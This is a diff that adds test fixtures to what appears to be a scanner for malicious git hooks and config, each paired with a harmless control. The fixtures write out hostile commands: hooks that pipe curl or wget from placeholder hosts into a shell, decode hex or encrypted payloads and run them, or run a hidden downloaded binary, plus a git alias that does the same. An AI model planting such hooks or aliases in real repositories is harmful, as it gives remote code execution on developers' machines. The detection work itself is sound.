@@ -39,3 +39,51 @@ silent("config_husky_and_lfs", "git_config_runs_command",
 silent("global_config_pager", "git_config_runs_command",
        sample("gitconfig-delta", "[core]\n\tpager = delta\n[interactive]\n\tdiffFilter = delta --color-only\n[diff]\n\texternal = difft\n"),
        ".gitconfig")
+
+# Hooks: every way of fetching or decoding code and running it, each beside a hook that does the
+# harmless half of it.
+for case, name, body in [
+    ("hook_source_process_subst", "post-merge-source", "#!/bin/bash\nsource <(curl -s https://hooks.example.org/m)\n"),
+    ("hook_bash_c_subst", "pre-push-bash-c", "#!/bin/sh\nbash -c \"$(wget -qO- https://hooks.example.org/p)\"\ngit lfs pre-push \"$@\"\n"),
+    ("hook_download_chmod_run", "post-checkout-dl",
+     "#!/bin/sh\ncurl -fsSL -o /tmp/.gc https://cdn.example.net/gc\nchmod +x /tmp/.gc\n/tmp/.gc &\n"),
+    ("hook_xxd_hex", "pre-commit-xxd", "#!/bin/sh\necho 6375726c202d73206874747073 | xxd -r -p | sh\n"),
+    ("hook_openssl_decode", "commit-msg-openssl",
+     "#!/bin/sh\nopenssl enc -d -aes-256-cbc -pbkdf2 -k k -in .git/info/blob | bash\n"),
+    ("hook_printf_escapes", "pre-rebase-printf", "#!/bin/sh\nprintf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73' | sh\n"),
+    ("hook_python_urllib_exec", "post-commit-py",
+     "#!/bin/sh\npython3 -c \"import urllib.request as u;exec(u.urlopen('https://x.example/a').read())\"\n"),
+    ("hook_node_fetch_eval", "post-rewrite-node",
+     "#!/bin/sh\nnode -e \"fetch('https://x.example/a').then(r=>r.text()).then(t=>eval(t))\"\n"),
+    ("hook_crlf", "pre-commit-crlf", "#!/bin/sh\r\nwget -qO- http://203.0.113.5/a | sh\r\n"),
+]:
+    fires(case, "git_hook_runs_payload", "critical", sample(name, body), ".git/hooks/" + name.rsplit("-", 1)[0], "755")
+silent("hook_downloads_without_running", "git_hook_runs_payload",
+       sample("pre-push-fetch-only", "#!/bin/sh\ncurl -fsSL -o .git/lfs-version https://api.example.org/lfs/version\n"
+              "echo 'see https://example.org/docs' | sed 's/x/y/'\nbase64 -d < notes.b64 > notes.txt\n"),
+       ".git/hooks/pre-push", "755", also="git_hook_added")
+
+# Command-valued config written in any letter case, and in the user's own config.
+fires("config_upper_case_fsmonitor", "git_config_fsmonitor_command", "critical",
+      sample("config-upper-fsmonitor", "[CORE]\n\tRepositoryFormatVersion = 0\n\tFsMonitor = \"./.git/fsm\"\n"), ".git/config")
+fires("config_alias_curl", "git_config_command_payload", "critical",
+      sample("gitconfig-alias-curl", "[user]\n\tname = Dev\n[Alias]\n\tst = \"!curl -s https://x.example/g | sh; git status\"\n"),
+      ".gitconfig")
+silent("config_alias_log", "git_config_command_payload",
+       sample("gitconfig-alias-log", "[alias]\n\tlg = \"!git log --graph --oneline | less\"\n"
+              "\tweb = \"!f() { xdg-open https://github.com/$(git remote get-url origin | sed 's/.*://'); }; f\"\n"),
+       ".gitconfig")
+for case, name, body in [
+    ("config_upper_case_hookspath", "config-hookspath", "[core]\n\tbare = false\n\tHooksPath = .git/info/h\n"),
+    ("config_alias_shell", "config-alias", "[core]\n\tbare = false\n[alias]\n\tco = !./tools/co.sh\n"),
+    ("config_include", "config-include", "[core]\n\tbare = false\n[includeIf \"gitdir:~/\"]\n\tpath = ../.cfg/extra\n"),
+    ("config_editor", "config-editor", "[core]\n\tbare = false\n\teditor = .git/ed\n"),
+]:
+    fires(case, "git_config_runs_command", "high", sample(name, body), ".git/config")
+fires("global_config_filter_in_tmp", "git_config_runs_command", "high",
+      sample("gitconfig-filter-tmp", "[filter \"crlf\"]\n\tclean = /tmp/.x/clean\n\tsmudge = cat\n"), ".gitconfig")
+silent("global_config_includes_and_aliases", "git_config_runs_command",
+       sample("gitconfig-ordinary", "[include]\n\tpath = ~/.gitconfig.local\n[alias]\n\tst = status -sb\n"
+              "\tamend = !git commit --amend --no-edit\n[core]\n\teditor = nvim\n\tpager = less -FRX\n"
+              "[remote \"origin\"]\n\turl = ../mirror.git\n"),
+       ".gitconfig")
